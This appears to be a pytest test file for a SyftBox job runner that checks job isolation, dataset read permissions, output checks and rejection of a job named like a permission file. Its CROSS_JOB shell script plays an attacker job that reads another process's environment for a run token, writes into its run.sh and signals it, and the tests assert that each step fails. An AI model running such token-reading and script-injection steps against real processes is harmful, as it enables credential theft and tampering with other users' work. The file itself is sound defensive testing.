    legacy_job(syftbox, "walker", WALKER.format(python=JOB_PYTHON, marker=marker))
    try:
        result = owner.cli(syftbox, "once", "--isolation", "none", "--no-stream")
        assert result.returncode == 0, result.stdout + result.stderr
        wait_for(lambda: not processes_with(marker), 10, "the walker to be gone")
        time.sleep(0.5)  # not for luck: a survivor would be found here, after the runner is done
        assert not processes_with(marker)
    finally:
        kill_marked(marker)


@pytest.mark.skipif(os.geteuid() != 0, reason="a root owner's jobs run as another account: the tests do not run as root")
@pytest.mark.slow
def test_a_dataset_the_jobs_account_cannot_read_is_named_before_any_job_runs(syftbox, tmp_path):
    locked = tmp_path / "locked-dataset"
    locked.mkdir(mode=0o700)
    (locked / "rows.csv").write_text("secret\n")
    legacy_job(syftbox, "reads", f"cat {locked}/rows.csv || echo refused\n")
    result = cli("once", "--allow-read", str(locked), *site_args(syftbox))
    lines = result.stdout.splitlines()
    named = next(i for i, line in enumerate(lines) if line.startswith(f"⚠️ allow_read {locked}: jobs run as nobody"))
    assert named < next(i for i, line in enumerate(lines) if "Executing job" in line)


def test_output_checks_are_runner_keywords(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, output_checks={"min_count": 5, "allowed_types": [".CSV"]})
    assert runner.settings.output_checks["min_count"] == 5 and runner.settings.output_checks["allowed_types"] == [".csv"]
    assert runner.settings.output_checks["max_rows"] == 5000
    make_job(runner, "counts", "printf 'area,count\\nnorth,7\\n' > outputs/counts.csv\n")
    syft_job.create_runner(syftbox, OWNER, isolation="none", console=False).process_approved_jobs()
    for overrides, flagged in (({}, False), ({"max_rows": 100}, False), ({"min_count": 8}, True)):
        [csv] = [r for r in runner.describe_job("counts", output_checks=overrides)["results"]
                 if r["path"] == "outputs/counts.csv"]
        assert ("small-count" in csv["flags"]) is flagged, (overrides, csv)  # the owner's 5 holds unless named
    with pytest.raises(ConfigError, match="output_checks: 'max_cells' is none of"):
        syft_job.create_runner(syftbox, OWNER, output_checks={"max_cells": 3})
    with pytest.raises(ConfigError, match="min_count must be a positive"):
        syft_job.create_runner(syftbox, OWNER, output_checks={"min_count": 0})


@pytest.mark.slow
def test_a_job_named_like_a_permission_file_cannot_take_the_place_of_its_submitters_rules(runner, syftbox):
    new_job(runner, "fine", "echo fine")  # (an inbox folder without rules of its own: the file above decides)
    sneaky = runner.job_dir / "inbox" / DS / "syft.pub.yaml"
    (sneaky / "code").mkdir(parents=True)
    (sneaky / "run.sh").write_text("echo sneaky\n")
    (sneaky / "config.yaml").write_text("name: syft.pub.yaml\n")
    assert cli("once", *site_args(syftbox)).returncode == 0
    rules = runner.job_dir / "review" / DS / "syft.pub.yaml"
    assert rules.is_file() and "*/stdout.txt" in rules.read_text()
    assert [r["name"] for r in runner.list_jobs()] == ["fine"]


CROSS_JOB = """
pid=$(pgrep -f 'sleep 998.{tag}' | head -1)
[ -n "$pid" ] || {{ echo "no victim"; exit 3; }}
tr '\\0' '\\n' < /proc/$pid/environ 2>/dev/null | grep -q SYFT_JOB_RUN_TOKEN && echo "READ its environment"
ls /proc/$pid/cwd/ >/dev/null 2>&1 && echo "WENT into its copy"
echo 'echo INJECTED' >> /proc/$pid/cwd/run.sh 2>/dev/null && echo "WROTE its run.sh"
kill -STOP $pid 2>/dev/null && echo "SIGNALLED it"
echo done
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="a root owner's jobs each run as a uid of their own; an ordinary "
                                            "owner's jobs run as the owner and can reach each other (README)")
@pytest.mark.slow
def test_two_jobs_of_a_root_owner_running_at_once_cannot_reach_each_other_without_the_sandbox(syftbox):
    tag = str(os.getpid())
    go = syftbox.parent / f"go-{tag}"  # (in a folder every run's uid may write)
    victim = legacy_job(syftbox, "a-victim", f"sleep 998.{tag} &\nwhile [ ! -e {go} ]; do sleep 0.02; done\n"
                                             "kill %1\necho victim done\n")
    attacker = legacy_job(syftbox, "b-attacker", f"while ! pgrep -f 'sleep 998.{tag}' >/dev/null; do sleep 0.02; done\n"
                                                 + CROSS_JOB.format(tag=tag) + f"touch {go}\n")
    try:
        result = cli("once", "--isolation", "none", "--jobs", "2", "--timeout", "60", *site_args(syftbox))
        out = (attacker / "stdout.txt").read_text()
        assert out.endswith("done\n") and not re.search(r"READ|WENT|WROTE|SIGNALLED", out), out + result.stdout
        assert (victim / "stdout.txt").read_text() == "victim done\n"
    finally:
        go.touch()
        kill_marked(f"998.{tag}")
